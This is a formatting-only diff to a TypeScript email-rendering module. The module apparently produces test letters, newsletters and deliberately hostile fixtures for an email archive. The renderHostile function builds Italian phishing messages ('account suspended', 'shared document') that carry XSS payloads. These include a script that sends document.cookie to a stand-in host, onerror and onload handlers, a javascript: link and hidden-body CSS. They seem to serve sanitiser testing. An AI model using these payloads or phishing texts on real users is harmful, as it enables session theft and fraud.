@@ -46,14 +46,17 @@ export function renderText(letter: Letter): string {
   const blocks = [greeting(letter), ...letter.paragraphs, closing(letter).join('\n')];
   let text = blocks.join('\n\n');
   if (letter.quoted) {
-    const quotedLines = letter.quoted.text.trimEnd().split('\n').map((line) => (line.startsWith('>') ? `>${line}` : line ? `> ${line}` : '>'));
+    const quotedLines = letter.quoted.text
+      .trimEnd()
+      .split('\n')
+      .map((line) => (line.startsWith('>') ? `>${line}` : line ? `> ${line}` : '>'));
     text += `\n\n${quoteHeader(letter)}\n${quotedLines.join('\n')}`;
   }
   return `${text}\n`;
 }
 
-const htmlStart = '<!doctype html><html><head><meta charset="utf-8"></head>' +
-  '<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">';
+const htmlStart =
+  '<!doctype html><html><head><meta charset="utf-8"></head>' + '<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">';
 
 export function renderHtml(letter: Letter): string {
   const paragraphs = [greeting(letter), ...letter.paragraphs].map((text) => `<p>${escapeHtml(text)}</p>`);
@@ -61,7 +64,8 @@ export function renderHtml(letter: Letter): string {
   let quote = '';
   if (letter.quoted) {
     const lines = letter.quoted.text.trimEnd().split('\n').map(escapeHtml).join('<br>');
-    quote = `<p>${escapeHtml(quoteHeader(letter))}</p>` +
+    quote =
+      `<p>${escapeHtml(quoteHeader(letter))}</p>` +
       `<blockquote type="cite" style="margin:0 0 0 8px;padding-left:8px;border-left:2px solid #9ab">${lines}</blockquote>`;
   }
   return `${htmlStart}${paragraphs.join('')}${signature}${quote}</body></html>`;
@@ -71,7 +75,8 @@ export function renderHtml(letter: Letter): string {
 export function renderNewsletter(from: Person, subject: string, paragraphs: string[], language: Language): { text: string; html: string } {
   const unsubscribe = language === 'en' ? 'Unsubscribe' : 'Annulla iscrizione';
   const text = [subject, '', ...paragraphs, '', `${unsubscribe}: https://newsletter.example.com/unsubscribe`].join('\n');
-  const html = `${htmlStart}<table role="presentation" width="600" align="center" cellpadding="0" cellspacing="0">` +
+  const html =
+    `${htmlStart}<table role="presentation" width="600" align="center" cellpadding="0" cellspacing="0">` +
     `<tr><td><img src="${remoteImages.banner}" width="600" height="120" alt="${escapeHtml(from.organization ?? from.name)}"></td></tr>` +
     `<tr><td style="padding:16px"><h1 style="font-size:20px">${escapeHtml(subject)}</h1>` +
     paragraphs.map((paragraph) => `<p>${escapeHtml(paragraph)}</p>`).join('') +
@@ -89,9 +94,11 @@ export function renderHostile(variant: number): { subject: string; text: string;
   if (variant % 2 === 0) {
     return {
       subject: 'Verifica urgente del tuo account',
-      text: 'Gentile cliente,\n\nil tuo account verrà sospeso entro 24 ore se non verifichi i tuoi dati.\n' +
+      text:
+        'Gentile cliente,\n\nil tuo account verrà sospeso entro 24 ore se non verifichi i tuoi dati.\n' +
         'Verifica ora: https://verifica-account-esempio.com/login\n',
-      html: `${htmlStart}<p>Gentile cliente,</p><p>il tuo account verrà sospeso entro 24 ore se non verifichi i tuoi dati.</p>` +
+      html:
+        `${htmlStart}<p>Gentile cliente,</p><p>il tuo account verrà sospeso entro 24 ore se non verifichi i tuoi dati.</p>` +
         '<p><a href="https://verifica-account-esempio.com/login">Verifica ora</a></p>' +
         '<script>document.title="archivio-xss";fetch("https://verifica-account-esempio.com/?c="+document.cookie)</script>' +
         '<img src="https://verifica-account-esempio.com/x.png" onerror="document.title=\'archivio-xss\'" alt="">' +
@@ -101,7 +108,8 @@ export function renderHostile(variant: number): { subject: string; text: string;
   return {
     subject: 'Documento condiviso con te',
     text: 'Ti è stato condiviso un documento.\n\nApri il documento: https://verifica-account-esempio.com/doc\n',
-    html: `${htmlStart}<style>body{display:none}</style><p>Ti è stato condiviso un documento.</p>` +
+    html:
+      `${htmlStart}<style>body{display:none}</style><p>Ti è stato condiviso un documento.</p>` +
       '<p><a href="javascript:document.title=\'archivio-xss\'">Apri il documento</a></p>' +
       '<svg onload="document.title=\'archivio-xss\'"></svg>' +
       '<iframe src="https://verifica-account-esempio.com/frame"></iframe>' +
